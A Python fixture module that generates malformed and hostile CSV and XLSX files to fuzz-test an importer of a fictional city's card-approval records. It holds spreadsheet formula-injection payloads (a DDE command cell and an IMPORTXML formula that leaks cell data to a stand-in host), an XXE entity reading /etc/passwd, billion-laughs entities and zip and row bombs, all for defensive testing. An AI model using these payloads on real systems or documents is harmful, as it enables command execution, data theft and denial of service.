"""Hostile drops for tests/test_fuzz_hostile.py, generated deterministically from a real one.

- :func:`hostile_files`: CSV and XLSX drops made from a month of the demo city's card company
  file (``card-drop/card_approvals_202501.csv``): byte flips, cuts, wrong encodings, NUL
  bytes, huge cells and rows, broken headers, formula-looking cells, ragged rows, zip damage,
  XML bombs, empty files.
- :func:`good_file`: a well-formed drop, different for each ``i`` (files are known by their
  checksum, so two equal ones would be taken once).

The hostile rule files are made in tests/fuzz_rule_inputs.py.
"""

from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent

# -- the real source file ---------------------------------------------------------------------

#: The header and first rows of the demo city's January card file (``naebu demo``).
BASE_CSV = """\
승인번호,부서명,카드소지자,사원번호,카드번호,승인일자,승인시각,가맹점명,업종,가맹점주소,승인금액,인원,대상인원,결제방법,사용목적
42126673,징수과,김영수,E26432,9410-45**-****-0241,2025-01-02,12:32:07,파리바게뜨 시청점,제과점,한빛시 서구 백운로 207,"56,200",6,과장 등 6명,카드,징수과 업무협의 다과
74641463,여성가족과,배미영,E97617,9420-60**-****-9002,2025-01-03,11:56:34,바다횟집,일반음식점,한빛시 남구 신흥로 255,"72,800",3,팀장 등 3명,카드,여성가족과 업무협의 간담회
52235045,관광과,이현주,E94047,5585-32**-****-3667,2025-01-03,12:38:20,청기와식당,한식,한빛시 동구 청학길 255,"53,200",3,주무관 등 3명,카드,관광과 현안업무 추진 간담회
62029675,정보통신과,최현주,E98966,4579-46**-****-5345,2025-01-03,12:53:45,한잔포차,일반음식점,한빛시 남구 동명로 64,"261,100",7,팀장 등 7명,카드,정보통신과 현안업무 추진 간담회
23056794,회계과,김성민,E90626,4579-81**-****-0654,2025-01-03,13:09:41,만나식당,일반음식점,한빛시 서구 동명로 112,"289,400",12,국장 등 12명,카드,회계과 업무협의 간담회
38973841,교통행정과,박준서,E41961,4579-81**-****-4229,2025-01-03,15:59:50,스타벅스 시청점,커피전문점,한빛시 남구 동명로 168,"8,600",2,담당 등 2명,카드,교통행정과 업무협의 다과
50167444,여성가족과,안대현,E63263,9410-75**-****-3483,2025-01-03,20:12:23,해물탕집,일반음식점,한빛시 동구 금남로 9,"80,100",3,팀장 등 3명,카드,여성가족과 현안업무 추진 간담회
16338283,문화체육과,김민성,E99500,9410-16**-****-9959,2025-01-03,20:32:30,생선구이집,일반음식점,한빛시 북구 신흥로 33,"88,300",5,국장 등 5명,카드,문화체육과 직원 격려 간담회
81477561,건축과,이서준,E14194,5585-56**-****-5827,2025-01-03,21:00:08,장터국밥,일반음식점,한빛시 남구 중앙로 18,"27,600",3,팀장 등 3명,카드,건축과 현안업무 추진 간담회
44063779,노인장애인과,이유진,E66763,9420-12**-****-7452,2025-01-06,09:41:10,이디야커피 한빛점,커피전문점,한빛시 서구 서원로 176,"30,800",4,주무관 등 4명,카드,노인장애인과 회의용 다과 구입
99123117,농축산과,신윤서,E34290,9420-03**-****-5665,2025-01-06,11:23:29,돈까스연구소,일식,한빛시 서구 남산길 89,"53,200",3,국장 등 3명,카드,농축산과 업무협의 간담회
14272910,노인장애인과,이유진,E66763,9420-12**-****-7452,2025-01-06,13:10:51,차이나하우스,중식,한빛시 서구 송정로 222,"59,000",2,국장 등 2명,카드,노인장애인과 유관기관 업무협의
47243855,복지정책과,강민준,E97657,5585-07**-****-0310,2025-01-07,12:42:21,이디야커피 한빛점,커피전문점,한빛시 서구 서원로 176,"13,400",3,과장 등 3명,카드,복지정책과 민원 상담 다과
80137093,여성가족과,배미영,E97617,9420-60**-****-9002,2025-01-07,16:17:38,뚜레쥬르,제과점,한빛시 북구 금남로 194,"13,600",3,담당 등 3명,카드,여성가족과 회의용 다과 구입
23044698,노인장애인과,강나연,E87584,5585-22**-****-4346,2025-01-08,13:25:14,시골밥상,한식,한빛시 서구 서원로 110,"52,100",2,주무관 등 2명,카드,노인장애인과 업무협의 간담회
"""
HEADER, *ROWS = BASE_CSV.splitlines()
#: Rows of every good file.
GOOD_ROWS = len(ROWS)
#: The mapping of config.toml's ``[sources.cards]``, less ``approval_id = "승인번호"``: each row
#: is then keyed by where it was read (``file:line``), so the records table says which file
#: every loaded row came from.
CARD_COLUMNS = {
    "department": "부서명",
    "holder_id": "사원번호",
    "card_no": "카드번호",
    "approved_date": "승인일자",
    "approved_time": "승인시각",
    "merchant_name": "가맹점명",
    "merchant_category": "업종",
    "merchant_address": "가맹점주소",
    "amount": "승인금액",
    "attendees": "인원",
    "attendees_text": "대상인원",
    "payment_method": "결제방법",
    "purpose": "사용목적",
}


def _rows(text_rows: list[str]) -> list[list[str]]:
    import csv

    return list(csv.reader(io.StringIO("\n".join(text_rows) + "\n")))


TABLE = _rows([HEADER, *ROWS])  # header + rows, as cells


def _csv_text(table: list[list[str]], newline: str = "\r\n") -> str:
    import csv

    out = io.StringIO()
    csv.writer(out, lineterminator=newline).writerows(table)
    return out.getvalue()


def _workbook(table: list[list[object]]) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    ws = book.active
    for row in table:
        ws.append(row)
    out = io.BytesIO()
    book.save(out)
    return _fixed(out.getvalue())


_STAMP = (2025, 1, 31, 9, 0, 0)


def _fixed(data: bytes) -> bytes:
    """The zip ``data`` with its times fixed, so the same workbook is the same bytes."""
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        items = [(i.filename, old.read(i.filename)) for i in old.infolist()]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name, body in items:
            if name == "docProps/core.xml":
                body = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2025-01-31T09:00:00Z", body)
            new.writestr(zipfile.ZipInfo(name, _STAMP), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _typed(table: list[list[str]]) -> list[list[object]]:
    """The rows as a spreadsheet holds them: amounts and counts as numbers."""
    out: list[list[object]] = [list(table[0])]
    for row in table[1:]:
        cells: list[object] = list(row)
        cells[10] = int(row[10].replace(",", ""))
        cells[11] = int(row[11])
        out.append(cells)
    return out


def good_file(i: int) -> tuple[str, bytes]:
    """A good drop, unique per ``i``: (suffix, content). CSV in UTF-8 or cp949 (as the card
    company sends them), every fifth an XLSX workbook."""
    table = [list(r) for r in TABLE]
    for n, row in enumerate(table[1:]):
        row[0] = str(10_000_000 + i * 100 + n)
    if i % 5 == 4:
        return ".xlsx", _workbook(_typed(table))
    return ".csv", _csv_text(table).encode("cp949" if i % 2 else "utf-8")


# -- hostile CSV -------------------------------------------------------------------------------

_FORMULAS = ["=HYPERLINK(\"http://x\",\"y\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "=1/0", "=" + "A" * 300, "\t=1+1", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")"]  # fmt: skip
_WEIRD = ["\u202e", "\u200b", "\ufeff", "\x00", "\ud7a3\u0301" * 3, "Ａ１２３", "🙂", "\x1b[31m",
          "\u3164", "\r", "\x85", "\u2028", "𝟗𝟗𝟗", "١٢٣", "NaN", "inf", "-0", "1e309",
          "9" * 400, "None", "null", "2025-02-30", "0000-00-00", "2825-01-03", "16000101", "99991231", "25:61:61", "-1", ""]  # fmt: skip


def _text_base(rng: random.Random) -> str:
    return _csv_text(TABLE, rng.choice(["\r\n", "\n"]))


def _cells_mutation(rng: random.Random) -> str:
    """Cells replaced by formula-looking, odd-unicode or out-of-range values."""
    table = [list(r) for r in TABLE]
    for _ in range(rng.randint(1, 12)):
        row = rng.choice(table[1:])
        row[rng.randrange(len(row))] = rng.choice(_FORMULAS + _WEIRD)
    return _csv_text(table)


_DATES = ["2825-01-03", "28250103", "1600-01-01", "9999-12-31", "99991231", "2025-02-30",
          "2025-13-01", "0000-00-00", "1e309", "45658", "999999", "2025.01.03", "2025-1-3",
          "2025-01-03 25:00:00", "-2025-01-03", "２０２５-０１-０３", "2025-01-03T10:00:00+99:00"]  # fmt: skip
_TIMES = ["25:61:61", "99999999999:00", "24:00:00", "-1:00", "10:00:00.9999999999", "1e9"]


def _dates(rng: random.Random) -> str:
    """Dates and times out of range, impossible or oddly written."""
    table = [list(r) for r in TABLE]
    for row in rng.sample(table[1:], rng.randint(1, 6)):
        row[5] = rng.choice(_DATES)
        if rng.random() < 0.3:
            row[6] = rng.choice(_TIMES)
    return _csv_text(table)


def _ragged(rng: random.Random) -> str:
    table = [list(r) for r in TABLE]
    for row in rng.sample(table[1:], rng.randint(1, 6)):
        if rng.random() < 0.5:
            del row[rng.randrange(len(row)) :]
        else:
            row.extend(rng.choice(["", "x", "1,2"]) for _ in range(rng.randint(1, 30)))
    return _csv_text(table)


def _header_mutation(rng: random.Random) -> str:
    table = [list(r) for r in TABLE]
    header = table[0]
    kind = rng.randrange(6)
    if kind == 0:  # a duplicate column name
        header[rng.randrange(len(header))] = rng.choice(header)
    elif kind == 1:  # a mapped column renamed
        header[rng.randrange(len(header))] = rng.choice(["금액", "", "승인 금액", "column3"])
    elif kind == 2:  # no header line at all
        table = table[1:]
    elif kind == 3:  # a header of blanks
        table[0] = [""] * len(header)
    elif kind == 4:  # title rows above the header
        table = [["카드 승인내역"], [], *table]
    else:  # a header wider than the rows
        header.extend(f"추가{i}" for i in range(rng.randint(1, 50)))
    return _csv_text(table)


def _huge(rng: random.Random) -> str:
    kind = rng.randrange(5)
    lines = _text_base(rng).splitlines(keepends=True)
    at = rng.randrange(1, len(lines))
    if kind == 0:  # a cell over the csv module's limit
        big = "x" * rng.choice([131_073, 300_000])
        lines.insert(
            at, f"1,과,홍,E1,9,2025-01-02,12:00:00,{big},한식,주소,100,1,1명,카드,목적\r\n"
        )
    elif kind == 1:  # a quoted cell with many line breaks
        lines.insert(
            at, '1,과,홍,E1,9,2025-01-02,12:00:00,"' + "y\n" * 80_000 + '",a,b,1,1,c,d,e\n'
        )
    elif kind == 2:  # a quote opened and never closed
        lines.insert(at, '1,과,"홍' + "z," * 2000 + "\n")
    elif kind == 3:  # many rows (the default caps are far; this stays quick)
        row = lines[1].rstrip("\r\n")
        lines.extend(row.replace("42126673", str(n)) + "\n" for n in range(5_000))
    else:  # a row of very many cells
        lines.insert(at, ",".join(["1"] * 20_000) + "\n")
    return "".join(lines)


def _cut(rng: random.Random) -> bytes:
    data = _text_base(rng).encode(rng.choice(["utf-8", "cp949"]))
    kind = rng.randrange(3)
    if kind == 0:  # anywhere (possibly inside a multibyte character)
        return data[: rng.randrange(len(data))]
    text = _text_base(rng)
    if kind == 1:  # inside a quoted amount: "31,5 must not load as 315
        quote = [m.start() for m in re.finditer('"', text)]
        at = rng.choice(quote[::2]) + rng.randint(2, 4)
        return (text[:at] + rng.choice(["", "\n", "\r\n"])).encode()
    return text[: text.index("\n") + rng.randint(1, 3)].encode()  # inside the first row


def _bytes_mutation(rng: random.Random) -> bytes:
    data = bytearray(_text_base(rng).encode(rng.choice(["utf-8", "cp949"])))
    for _ in range(rng.randint(1, 20)):
        at = rng.randrange(len(data))
        op = rng.randrange(4)
        if op == 0:
            data[at] ^= 1 << rng.randrange(8)
        elif op == 1:
            data[at] = rng.choice(b'\x00",\r\n\xff\xfe\x80')
        elif op == 2:
            del data[at : at + rng.randint(1, 30)]
        else:
            data[at:at] = rng.randbytes(rng.randint(1, 8))
    return bytes(data)


def _encoding_mutation(rng: random.Random) -> bytes:
    text = _text_base(rng)
    kind = rng.randrange(7)
    if kind == 0:
        return text.encode("utf-16")
    if kind == 1:
        return text.encode("utf-16-le")  # no BOM
    if kind == 2:
        return text.encode("latin-1", errors="replace")
    if kind == 3:  # half UTF-8, half cp949
        lines = text.splitlines(keepends=True)
        half = rng.randrange(1, len(lines))
        return "".join(lines[:half]).encode() + "".join(lines[half:]).encode("cp949")
    if kind == 4:  # NUL bytes
        data = bytearray(text.encode())
        for _ in range(rng.randint(1, 40)):
            data.insert(rng.randrange(len(data)), 0)
        return bytes(data)
    if kind == 5:  # a BOM of one encoding, the text of another
        return b"\xef\xbb\xbf" + text.encode("cp949")
    return b"\xff\xfe" + text.encode()


def _empty(rng: random.Random) -> bytes:
    return rng.choice(
        [b"", b"\xef\xbb\xbf", b"\n\n\n", b"\r\n", HEADER.encode(), (HEADER + "\n").encode(),
         b"\x00" * 100, b",,,,\n,,,\n", b'"', b'"""', b"\xff\xfe", b" ", b"\t\t\n"]
    )  # fmt: skip


def _csv_case(rng: random.Random) -> tuple[str, bytes]:
    makers: list[tuple[str, Callable[[random.Random], str | bytes]]] = [
        ("cells", _cells_mutation),
        ("ragged", _ragged),
        ("dates", _dates),
        ("header", _header_mutation),
        ("huge", _huge),
        ("cut", _cut),
        ("bytes", _bytes_mutation),
        ("bytes", _bytes_mutation),
        ("encoding", _encoding_mutation),
        ("empty", _empty),
    ]
    kind, make = rng.choice(makers)
    data = make(rng)
    return kind, data if isinstance(data, bytes) else data.encode("utf-8")


# -- hostile XLSX ------------------------------------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_BASE_XLSX: bytes | None = None


def _base_xlsx() -> bytes:
    global _BASE_XLSX
    if _BASE_XLSX is None:
        _BASE_XLSX = _workbook(_typed(TABLE))
    return _BASE_XLSX


def zip_replace(data: bytes, member: str, content: bytes | None, stored: bool = False) -> bytes:
    """The zip ``data`` with ``member`` replaced (added; removed when ``content`` is None)."""
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        items = [(i, old.read(i.filename)) for i in old.infolist()]
    out = io.BytesIO()
    compress = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(out, "w") as new:
        for info, body in items:
            if info.filename != member:
                new.writestr(info, body)
        if content is not None:
            new.writestr(zipfile.ZipInfo(member, _STAMP), content, compress_type=compress)
    return out.getvalue()


def _member(name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(_base_xlsx())) as z:
        return z.read(name)


def _sheet(rows: str, prolog: str = "", dimension: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>{prolog}<worksheet {_NS}>{dimension}<sheetData>{rows}'
        "</sheetData></worksheet>"
    ).encode()


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _header_row() -> str:
    cols = "ABCDEFGHIJKLMNO"
    return '<row r="1">' + "".join(_inline(f"{c}1", h) for c, h in zip(cols, TABLE[0], strict=True)) + "</row>"  # fmt: skip


def _xlsx_case(rng: random.Random) -> tuple[str, bytes]:
    base = _base_xlsx()
    kind = rng.randrange(16)
    lol = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 9))
    if kind == 0:  # bytes flipped anywhere in the zip
        data = bytearray(base)
        for _ in range(rng.randint(1, 10)):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
        return "zipflip", bytes(data)
    if kind == 1:
        return "zipcut", base[: rng.randrange(len(base))]
    if kind == 2:  # the sheet XML cut and garbled
        xml = _member(SHEET)
        return "xmlcut", zip_replace(base, SHEET, xml[: rng.randrange(len(xml))] + b"<row><c>")
    if kind == 3:  # a stored member whose content changed but not its CRC
        stored = zip_replace(base, SHEET, _member(SHEET), stored=True)
        at = stored.index(b"<sheetData>") + rng.randint(20, 200)
        return "crc", stored[:at] + bytes([stored[at] ^ 0x01]) + stored[at + 1 :]
    if kind == 4:  # billion laughs, in some member, maybe after a long prolog
        member = rng.choice([SHEET, "xl/workbook.xml", "[Content_Types].xml", "xl/styles.xml"])
        pad = "<!--" + " " * rng.choice([0, 70_000]) + "-->"
        bomb = (f'<?xml version="1.0"?>{pad}<!DOCTYPE lolz [<!ENTITY l0 "lol">{lol}]>'
                f'<worksheet {_NS}><sheetData><row r="1">{_inline("A1", "&l8;")}</row>'
                "</sheetData></worksheet>")  # fmt: skip
        return "entities", zip_replace(base, member, bomb.encode())
    if kind == 5:  # an external entity
        xxe = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        return "xxe", zip_replace(base, SHEET, _sheet(f'<row r="1">{_inline("A1", "&e;")}</row>', xxe))  # fmt: skip
    if kind == 6:  # a row bomb: few bytes zipped, millions of rows
        many = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * rng.choice([200_000, 400_000])
        return "rowbomb", zip_replace(base, SHEET, _sheet("").replace(b"<sheetData>", b"<sheetData>" + many))  # fmt: skip
    if kind == 7:  # a sheet that says it is huge, or whose row numbers run far
        far = rng.choice(["1048576", "1048577", "99999999", "0", "-5", "abc"])
        col = rng.choice(["A", "XFD", "ZZZZ"])
        rows = _header_row() + f'<row r="{far}">{_inline(f"{col}{far}", "x")}</row>'
        dim = f'<dimension ref="A1:{col}{far}"/>'
        return "farrow", zip_replace(base, SHEET, _sheet(rows, dimension=dim))
    if kind == 8:  # cells of the wrong type, shared strings that are not there
        odd = rng.choice([
            '<c r="K2" t="n"><v>abc</v></c>', '<c r="F2" t="d"><v>2025-13-45</v></c>',
            '<c r="K2" t="b"><v>2</v></c>', '<c r="K2" t="e"><v>#DIV/0!</v></c>',
            '<c r="K2" t="s"><v>9999</v></c>', '<c r="K2" t="s"><v>-1</v></c>',
            '<c r="K2"><v>1e400</v></c>', '<c r="K2"><f>HYPERLINK("http://x")</f></c>',
            '<c r="F2" s="99"><v>1e20</v></c>', '<c r="K2" t="str"><v>=1+1</v></c>',
        ])  # fmt: skip
        return "celltype", zip_replace(base, SHEET, _sheet(_header_row() + f'<row r="2">{odd}</row>'))  # fmt: skip
    if kind == 9:  # a date-formatted cell holding a number no date has
        value = rng.choice(["1e20", "-5", "2958466", "99999999999", "nan", "-1e300"])
        return "datecell", _date_cell_book(value)
    if kind == 10:  # a member missing
        member = rng.choice([SHEET, "xl/workbook.xml", "xl/_rels/workbook.xml.rels",
                             "[Content_Types].xml", "xl/styles.xml"])  # fmt: skip
        return "nomember", zip_replace(base, member, None)
    if kind == 11:  # not a workbook at all
        return "notzip", rng.choice([b"", BASE_CSV.encode(), b"PK\x03\x04", b"PK\x05\x06" + b"\x00" * 18, rng.randbytes(500)])  # fmt: skip
    if kind == 12:  # a huge cell, a row of many cells
        if rng.random() < 0.5:
            rows = _header_row() + f'<row r="2">{_inline("A2", "x" * 300_000)}</row>'
        else:
            rows = _header_row() + '<row r="2">' + '<c t="n"><v>1</v></c>' * 16_384 + "</row>"
        return "bigcell", zip_replace(base, SHEET, _sheet(rows))
    if kind == 13:  # the workbook's sheet points out of the package
        rels = _member("xl/_rels/workbook.xml.rels")
        target = rng.choice([b"/etc/passwd", b"../../../x.xml", b"worksheets/nope.xml", b""])
        return "reltarget", zip_replace(base, "xl/_rels/workbook.xml.rels", rels.replace(b"worksheets/sheet1.xml", target))  # fmt: skip
    if kind == 14:  # a shared-strings bomb
        strings = b"<si><t>" + b"A" * 1000 + b"</t></si>"
        sst = (
            f'<sst {_NS} count="20000" uniqueCount="20000">'.encode() + strings * 20_000 + b"</sst>"
        )
        return "sstbomb", zip_replace(base, "xl/sharedStrings.xml", sst)
    # Rows whose cells hold odd values, typed as Excel would.
    table = _typed(TABLE)
    for _ in range(rng.randint(1, 8)):
        row = rng.choice(table[1:])
        row[rng.randrange(len(row))] = rng.choice(
            [*_FORMULAS, *[w for w in _WEIRD if w not in ("\x00", "\x1b[31m", "\r")], 1e300,
             -1, 0.5, True, 10**20]
        )  # fmt: skip
    try:
        return "xlcells", _workbook(table)
    except Exception:  # openpyxl refuses some values when writing: keep the plain book
        return "xlcells", base


def _date_cell_book(value: str) -> bytes:
    import datetime as dt

    table = _typed(TABLE)
    table[1][5] = dt.datetime(2025, 1, 2)
    data = _workbook(table)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read(SHEET)
    # The first data row's date cell: its number replaced, its date style kept.
    xml = re.sub(rb'(<c r="F2"[^>]*>)<v>[^<]*</v>', rb"\g<1><v>" + value.encode() + b"</v>", xml)
    return zip_replace(data, SHEET, xml)


def hostile_files(seed: int, count: int) -> list[tuple[str, bytes]]:
    """``count`` distinct hostile drops: (file name, content); about a third XLSX."""
    rng = random.Random(seed)
    out: list[tuple[str, bytes]] = []
    seen: set[bytes] = set()
    while len(out) < count:
        if rng.random() < 0.35:
            kind, data = _xlsx_case(rng)
            suffix = ".xlsx"
        else:
            kind, data = _csv_case(rng)
            suffix = ".csv"
        if data in seen:
            continue
        seen.add(data)
        out.append((f"f{len(out):03d}_{kind}{suffix}", data))
    return out
